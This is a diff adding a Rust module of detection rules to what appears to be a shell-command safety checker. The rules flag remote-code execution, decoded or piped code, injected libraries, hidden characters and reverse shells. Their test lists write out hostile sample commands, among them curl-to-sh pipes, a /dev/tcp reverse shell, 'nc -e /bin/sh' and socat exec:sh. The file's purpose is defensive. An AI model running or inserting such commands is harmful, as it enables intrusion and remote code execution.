@@ -1,0 +1,385 @@
+//! Ways of running text that hide what runs.
+
+use super::{Looks, Rule, Severity};
+use crate::Surroundings;
+use crate::places;
+use crate::shell::{FETCHERS, Field, Invocation, Sign, Span, Stream};
+
+pub(super) const RULES: &[Rule] = &[
+    Rule {
+        category: "shell-command",
+        severity: Severity::Ask,
+        reason: "hands a text to a shell",
+        looks: Looks::Signs(&[Sign::ShellText]),
+        catches: &[
+            "bash -lc ls",
+            "sh -c 'echo hi'",
+            "env -i bash -xc ls",
+            "sudo bash -c id",
+        ],
+        passes: &["bash build.sh", "sh ./configure", "bash --version"],
+    },
+    Rule {
+        category: "interpreter-command",
+        severity: Severity::Ask,
+        reason: "hands a program text to an interpreter",
+        looks: Looks::Signs(&[Sign::CodeText]),
+        catches: &[
+            "python3 -c 'print(1)'",
+            "node -e '1'",
+            "php -r 'x();'",
+            "perl -ne 'print' f",
+            "ruby -e '1'",
+            "node --eval 1",
+            "/usr/bin/python3.11 -c x",
+        ],
+        passes: &[
+            "python3 app.py",
+            "python -m pytest -c x",
+            "node server.js",
+            "php artisan",
+            "node --version",
+        ],
+    },
+    Rule {
+        category: "heredoc-command",
+        severity: Severity::Ask,
+        reason: "feeds a text in the command to a shell or interpreter",
+        looks: Looks::Signs(&[Sign::HereText]),
+        catches: &[
+            "python3 <<EOF\nprint(1)\nEOF",
+            "bash <<EOF\nls\nEOF",
+            "bash <<< 'ls'",
+            "<<X sh\nls\nX",
+        ],
+        passes: &["cat <<EOF\nrm\nEOF", "cat > x.sh <<'EOF'\nrm -rf /\nEOF"],
+    },
+    Rule {
+        category: "remote-code",
+        severity: Severity::Ask,
+        reason: "runs what comes over the network",
+        looks: Looks::Signs(&[Sign::FetchedText]),
+        catches: &[
+            "curl u | sh",
+            "bash <(curl u)",
+            "eval $(curl u)",
+            "wget -O- u|sudo bash",
+            "sh -c \"$(curl -fsSL u)\"",
+            "curl u | python3 -",
+            "source <(curl -s u)",
+            "curl u | tee x | bash -s -- -y",
+        ],
+        passes: &[
+            "curl u | jq .",
+            "curl -o x.json u",
+            "curl u | python3 -m json.tool",
+            "wget u",
+        ],
+    },
+    Rule {
+        category: "remote-code",
+        severity: Severity::Ask,
+        reason: "runs a file it fetched",
+        looks: Looks::Script(fetched_then_run),
+        catches: &[
+            "curl -o a.sh u && bash a.sh",
+            "wget u/i.sh -O i.sh; sh i.sh",
+            "curl u > x.py; python3 x.py",
+        ],
+        passes: &["curl -o a.json u && jq . a.json", "bash a.sh"],
+    },
+    Rule {
+        category: "decoded-code",
+        severity: Severity::Ask,
+        reason: "runs what was decoded or rewritten on the way",
+        looks: Looks::Signs(&[Sign::DecodedText]),
+        catches: &[
+            "base64 -d f | sh",
+            "xxd -r -p x | bash",
+            "echo dwq | tr a-z b-za | sh",
+            "openssl enc -d -in x | sh",
+            "eval $(echo bHM= | base64 -d; cat $x)",
+            "gunzip -c x.gz | bash",
+        ],
+        passes: &["base64 -d f > out", "echo x | tr a b"],
+    },
+    Rule {
+        category: "piped-code",
+        severity: Severity::Ask,
+        reason: "runs what another program prints",
+        looks: Looks::Signs(&[Sign::PipedText]),
+        catches: &["cat x | sh", "echo ls | bash", "sed s/a/b/ x | sh"],
+        passes: &["cat x | grep sh", "sh x | cat"],
+    },
+    Rule {
+        category: "unknown-code",
+        severity: Severity::Ask,
+        reason: "runs text that is only known when it runs",
+        looks: Looks::Signs(&[Sign::UnknownText]),
+        catches: &["eval \"$X\"", "bash -c \"$CMD\"", "eval \"$(cat x)\""],
+        passes: &[
+            "eval \"$(ssh-agent -s)\"",
+            "eval \"$(pyenv init -)\"",
+            "eval ls",
+        ],
+    },
+    Rule {
+        category: "unknown-program",
+        severity: Severity::Ask,
+        reason: "which program runs is only known when it runs",
+        looks: Looks::Signs(&[Sign::UnknownProgram]),
+        catches: &["$CMD x", "$(cat x) y", "r$(cat y)m -rf z"],
+        passes: &["$HOME/bin/x", "x=ls; $x", "$(which python3) app.py"],
+    },
+    Rule {
+        category: "injected-code",
+        severity: Severity::Ask,
+        reason: "slips a library or start file into a program",
+        looks: Looks::Signs(&[Sign::InjectedCode]),
+        catches: &["LD_PRELOAD=./x.so ls", "BASH_ENV=x bash y"],
+        passes: &["LANG=C ls", "DEBUG=1 node x"],
+    },
+    Rule {
+        category: "injected-code",
+        severity: Severity::Ask,
+        reason: "makes the shell run something under another name or at another time",
+        looks: Looks::Program(|one, _| match one.name.as_str() {
+            "hash" => one.short("p"),
+            "enable" => one.short("f"),
+            "complete" => one.short("C"),
+            "bind" => one.short("x"),
+            _ => false,
+        }),
+        catches: &[
+            "hash -p /bin/rm ls",
+            "enable -f ./x.so y",
+            "complete -C 'x' y",
+        ],
+        passes: &["hash -r", "complete -F _x y", "bind -l"],
+    },
+    Rule {
+        category: "unreadable",
+        severity: Severity::Ask,
+        reason: "this is not shell text that can be read to its end",
+        looks: Looks::Signs(&[Sign::Unreadable]),
+        catches: &["echo 'x", "if true; then ls", "ls )", "echo $(ls"],
+        passes: &["echo 'x'", "case x in a) ls;; esac"],
+    },
+    Rule {
+        category: "too-complex",
+        severity: Severity::Ask,
+        reason: "too long or too deeply nested to be judged",
+        looks: Looks::Signs(&[Sign::TooComplex]),
+        catches: &["((((((((((((((((((((((((((((((((((((((((((((((((((((((((ls))))"],
+        passes: &["(((ls)))"],
+    },
+    Rule {
+        category: "hidden-characters",
+        severity: Severity::Ask,
+        reason: "holds characters that cannot be seen or change the order of others",
+        looks: Looks::Text(hidden),
+        catches: &["ls \u{202e}txt", "r\u{200b}m x", "echo \u{1b}[2K"],
+        passes: &["echo größer", "echo 日本語", "printf 'a\tb\n'"],
+    },
+    Rule {
+        category: "program-option",
+        severity: Severity::Ask,
+        reason: "an option of a reading program starts another program",
+        looks: Looks::Program(|one, _| {
+            let starts = |options: &[&str]| {
+                one.arguments().iter().any(|field| {
+                    let name = field.text.split('=').next().unwrap_or_default();
+                    options.contains(&name)
+                })
+            };
+            match one.name.as_str() {
+                "rg" => starts(&["--pre", "--hostname-bin"]),
+                "sort" => starts(&["--compress-program"]),
+                "man" => {
+                    starts(&["-P", "--pager", "-H", "--html"])
+                        || one
+                            .arguments()
+                            .iter()
+                            .any(|field| field.text.starts_with("-P"))
+                }
+                "ag" => starts(&["--pager"]),
+                "sed" | "gsed" => one.operands().any(|field| runs_in_sed(&field.text)),
+                "tar" => starts(&[
+                    "--to-command",
+                    "--checkpoint-action",
+                    "--use-compress-program",
+                    "-I",
+                    "--rsh-command",
+                ]),
+                "zip" => starts(&["-TT", "--unzip-command"]),
+                "rsync" => one
+                    .value("-e")
+                    .or(one.value("--rsh"))
+                    .is_some_and(|field| field.text.contains("sh -c")),
+                "git" => {
+                    starts(&["--upload-pack", "--receive-pack", "--open-files-in-pager"])
+                        || one.has("-O") && one.argument(0) == "grep"
+                }
+                "ssh" => one.arguments().iter().any(|field| {
+                    field.text.to_ascii_lowercase().contains("proxycommand=")
+                        || field.text.to_ascii_lowercase().contains("localcommand=")
+                }),
+                _ => false,
+            }
+        }),
+        catches: &[
+            "rg --pre sh x",
+            "sort --compress-program=sh f",
+            "man -P sh ls",
+            "ag --pager sh x",
+            "sed '1e ls' x",
+            "sed 's/a/b/ge' x",
+            "tar xf a --to-command=sh",
+        ],
+        passes: &["rg --pretty x", "sort -u f", "man ls", "ag x", "tar xf a"],
+    },
+    Rule {
+        category: "made-executable",
+        severity: Severity::Ask,
+        reason: "makes a file executable and runs it",
+        looks: Looks::Script(made_then_run),
+        catches: &[
+            "chmod +x a; ./a",
+            "chmod 755 run.sh && ./run.sh",
+            "chmod u+x ./b && sudo ./b",
+        ],
+        passes: &["chmod +x a", "./a", "chmod +x a; ./b"],
+    },
+    Rule {
+        category: "reverse-shell",
+        severity: Severity::Ask,
+        reason: "connects a shell with the network",
+        looks: Looks::Program(|one, _| {
+            let network = |field: &Field| {
+                field.text.starts_with("/dev/tcp/") || field.text.starts_with("/dev/udp/")
+            };
+            let redirected = one.streams.iter().any(|stream| match stream {
+                Stream::In(field) | Stream::Out(field) => network(field),
+            });
+            match one.name.as_str() {
+                "nc" | "ncat" | "netcat" => one.short("ec") && !one.long("--help"),
+                "socat" => one.arguments().iter().any(|field| {
+                    let text = field.text.to_ascii_lowercase();
+                    text.contains("exec:") || text.contains("system:")
+                }),
+                _ => redirected,
+            }
+        }),
+        catches: &[
+            "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
+            "nc -e /bin/sh h 1",
+            "socat tcp:h:1 exec:sh",
+        ],
+        passes: &["nc -z localhost 80", "nc -l 80", "curl u"],
+    },
+];
+
+/// Whether a script of sed runs what it makes: the command `e`, or that flag of `s`.
+fn runs_in_sed(script: &str) -> bool {
+    script.split([';', '\n']).any(|command| {
+        let command = command
+            .trim_start()
+            .trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, ',' | '$' | ' '));
+        if let Some(rest) = command.strip_prefix('e') {
+            return rest.is_empty() || rest.starts_with(' ');
+        }
+        let Some(rest) = command.strip_prefix('s') else {
+            return false;
+        };
+        let Some(delimiter) = rest.chars().next().filter(|c| c.is_ascii_punctuation()) else {
+            return false;
+        };
+        let flags = rest.rsplit(delimiter).next().unwrap_or_default();
+        flags.len() < 5 && flags.contains('e') && rest.matches(delimiter).count() >= 3
+    })
+}
+
+fn hidden(text: &str) -> Option<Span> {
+    let is_hidden = |c: char| {
+        matches!(c,
+            '\u{0}'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
+            | '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
+            | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
+    };
+    let (start, c) = text.char_indices().find(|(_, c)| is_hidden(*c))?;
+    let end = start + c.len_utf8();
+    Some(Span { start, end })
+}
+
+/// Whether a program is run by one of these paths, itself or as the script of an interpreter.
+fn runs_one_of(one: &Invocation, files: &[String]) -> bool {
+    const RUNNERS: [&str; 12] = [
+        "sh", "bash", "zsh", "dash", "ksh", "source", ".", "python", "python3", "node", "perl",
+        "ruby",
+    ];
+    let program = one.argv.first().filter(|field| field.text.contains('/'));
+    let script = one.operands().next().filter(|_| one.is(&RUNNERS));
+    let paths = [program, script].into_iter().flatten();
+    paths
+        .map(|field| places::absolute(&field.text, &one.cwd))
+        .any(|path| files.contains(&path))
+}
+
+fn first_run(all: &[Invocation], made: impl Fn(&Invocation, &mut Vec<String>)) -> Option<Span> {
+    /// More files than anybody writes in one command.
+    const MAX_FILES: usize = 64;
+    let mut files = Vec::new();
+    for one in all {
+        if !files.is_empty() && runs_one_of(one, &files) {
+            return Some(one.span);
+        }
+        if files.len() < MAX_FILES {
+            made(one, &mut files);
+        }
+    }
+    None
+}
+
+fn made_then_run(all: &[Invocation], _: &Surroundings) -> Option<Span> {
+    first_run(all, |one, files| {
+        if one.name != "chmod" {
+            return;
+        }
+        let mut operands = one.operands();
+        let executable = operands.next().is_some_and(|mode| {
+            let digits = mode.text.trim_start_matches('0');
+            mode.text.contains('x') && mode.text.contains(['+', '='])
+                || digits.len() == 3
+                    && digits.bytes().all(|digit| digit.is_ascii_digit())
+                    && digits.contains(['7', '5', '1'])
+        });
+        if executable {
+            files.extend(operands.map(|field| places::absolute(&field.text, &one.cwd)));
+        }
+    })
+}
+
+fn fetched_then_run(all: &[Invocation], _: &Surroundings) -> Option<Span> {
+    first_run(all, |one, files| {
+        if !one.is(&FETCHERS) {
+            return;
+        }
+        let options = ["-o", "--output", "-O", "--output-document"];
+        let named = options.iter().filter_map(|option| one.value(option));
+        let redirected = one.streams.iter().filter_map(|stream| match stream {
+            Stream::Out(field) => Some(field),
+            Stream::In(_) => None,
+        });
+        let written = named.chain(redirected).map(|field| field.text.as_str());
+        files.extend(written.map(|path| places::absolute(path, &one.cwd)));
+        let remote_name =
+            one.name == "wget" && one.value("-O").is_none() || one.name == "curl" && one.short("O");
+        if remote_name {
+            let last = one
+                .operands()
+                .last()
+                .and_then(|url| url.text.rsplit('/').next());
+            files.extend(last.map(|name| places::absolute(name, &one.cwd)));
+        }
+    })
+}
